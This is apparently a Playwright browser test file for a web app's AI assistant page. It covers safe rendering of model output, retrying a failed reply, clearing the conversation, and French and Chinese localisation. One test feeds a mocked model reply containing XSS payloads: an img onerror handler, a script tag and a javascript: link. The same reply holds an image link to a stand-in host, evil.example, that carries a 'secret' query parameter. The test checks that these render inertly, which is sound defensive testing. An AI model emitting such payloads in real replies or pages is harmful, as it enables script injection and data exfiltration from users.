// /ai beyond the happy path, in a real browser: a model's hostile Markdown is shown as text (no image, no
// script, no javascript: link runs), a failed reply is retried from its button, the conversation is cleared
// back to the opener, and the page reads in French and Chinese. The model is the AI SDK's mock, swapped into
// the running app, so what the browser gets went through the real streaming path.
import { MockLanguageModelV3 } from 'ai/test';
import type { Browser } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { browserSuite, newAppContext, screenshot, verifiedUser } from '../support/browser.js';
import { describeFinding, runAxe, severe } from '../support/axe.js';
import type { TestApp } from '../support/test-app.js';

let t: TestApp;
let browser: Browser;
const contexts = browserSuite((app, b) => {
  t = app;
  browser = b;
});

async function open(token: string, customizer?: Record<string, unknown>, viewport?: { width: number; height: number }) {
  const context = await newAppContext(browser, t, { token, customizer, viewport });
  contexts.push(context);
  return context.newPage();
}

/** A model that streams `text` in a few chunks. */
function saying(text: string) {
  const usage = { inputTokens: { total: 10, noCache: 10, cacheRead: undefined, cacheWrite: undefined }, outputTokens: { total: 5, text: 5, reasoning: undefined } };
  // The mock's stream parts, typed by the provider spec; built here as plain objects.
  const parts = [
    { type: 'text-start', id: 't' },
    ...text.match(/[\s\S]{1,40}/g)!.map((delta) => ({ type: 'text-delta', id: 't', delta })),
    { type: 'text-end', id: 't' },
    { type: 'finish', finishReason: { unified: 'stop', raw: 'stop' }, usage },
  ] as never[];
  return new MockLanguageModelV3({
    doStream: () => Promise.resolve({ stream: new ReadableStream({ start: (c) => { for (const p of parts) c.enqueue(p); c.close(); } }) }),
  });
}

async function consent(token: string) {
  expect((await t.gql('mutation { aiRequestAccess { requestValid } }', {}, token)).errors).toBeUndefined();
}

describe('AI assistant: hostile Markdown, retry, clear, languages', () => {
  it("renders a model's raw HTML and javascript: links inertly", async () => {
    const u = await verifiedUser(t, { firstName: 'Mal', lastName: 'Formed' });
    await consent(u.token);
    const page = await open(u.token);
    await page.goto('/ai');
    await page.getByTestId('ai-suggestion').first().waitFor();
    const hostile = [
      '**Bold** is fine.',
      '<img src="x" onerror="window.__pwned = 1"> <script>window.__pwned = 2</script>',
      '[open me](javascript:window.__pwned=3) and ![leak](https://evil.example/leak.png?d=secret)',
      '[your heart rate](/live/hbr)',
    ].join('\n\n');
    t.app.services.ai.useModel(saying(hostile));
    try {
      await page.getByTestId('ai-input').fill('show me something');
      await page.getByTestId('ai-send').click();
      const reply = page.getByTestId('ai-reply').last();
      await expect.poll(() => reply.textContent(), { timeout: 10_000 }).toMatch(/your heart rate/);
      expect(await reply.locator('strong').textContent()).toBe('Bold');
      expect(await reply.locator('img, script, iframe').count()).toBe(0);
      // Raw HTML is shown as the text it is.
      expect(await reply.textContent()).toContain('<img src="x" onerror="window.__pwned = 1">');
      const hrefs = await reply.locator('a').evaluateAll((as) => as.map((a) => a.getAttribute('href') ?? ''));
      expect(hrefs.some((h) => /^javascript:/i.test(h))).toBe(false);
      expect(hrefs).toContain('/live/hbr');
      // The neutered link does nothing when clicked.
      await reply.getByText('open me').click();
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    } finally {
      t.app.services.ai.useModel(null);
    }
  });

  it('retries a failed reply from its button and clears the conversation back to the opener', async () => {
    const u = await verifiedUser(t, { firstName: 'Re', lastName: 'Try' });
    await consent(u.token);
    const page = await open(u.token);
    await page.goto('/ai');
    await page.getByTestId('ai-suggestion').first().waitFor();
    t.app.services.ai.useModel(new MockLanguageModelV3({ doStream: () => Promise.reject(new Error('endpoint down')) }));
    try {
      await page.getByTestId('ai-input').fill('how did I sleep last night?');
      await page.getByTestId('ai-send').click();
      await page.getByTestId('ai-retry').waitFor({ timeout: 10_000 });
    } finally {
      t.app.services.ai.useModel(null);
    }
    expect(severe(await runAxe(page)).map(describeFinding)).toEqual([]);
    await screenshot(page, 'ai-failed-reply');
    // The same failed state, dark and on a phone: Retry stays reachable, nothing scrolls sideways.
    const phone = await open(u.token, { activeMode: 'dark' }, { width: 375, height: 812 });
    await phone.goto('/ai');
    await phone.getByTestId('ai-retry').waitFor();
    expect(await phone.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
    expect(severe(await runAxe(phone)).map(describeFinding)).toEqual([]);
    await screenshot(phone, 'ai-failed-reply-dark-375');
    await page.getByTestId('ai-retry').click();
    // The built-in engine answers now; the failed reply gives way to it.
    await expect.poll(() => page.getByTestId('ai-retry').count(), { timeout: 10_000 }).toBe(0);
    await expect.poll(() => page.getByTestId('ai-reply').last().textContent(), { timeout: 10_000 }).toMatch(/sleep/i);
    expect(await page.getByText('The reply failed.').count()).toBe(0);

    await page.getByRole('button', { name: 'Clear conversation' }).click();
    await expect.poll(() => page.getByTestId('ai-reply').allTextContents()).toEqual([expect.stringMatching(/Whats on your mind\?/)]);
    expect(await page.getByTestId('ai-quota').textContent()).toBe('49 of 50 messages left today');
  });

  it('reads in French and in Chinese', async () => {
    const u = await verifiedUser(t, { firstName: 'Lin', lastName: 'Gua' });
    await consent(u.token);
    for (const [language, opener, clear] of [
      ['fr', 'Qu’avez-vous en tête\u202f?', 'Effacer la conversation'],
      ['ch', '您在想什么？', '清除对话'],
    ] as const) {
      const page = await open(u.token, { language });
      await page.goto('/ai');
      await expect.poll(() => page.getByTestId('ai-reply').first().textContent()).toContain(opener);
      expect(await page.getByRole('button', { name: clear }).count()).toBe(1);
      await screenshot(page, `ai-${language}`);
    }
  });
});
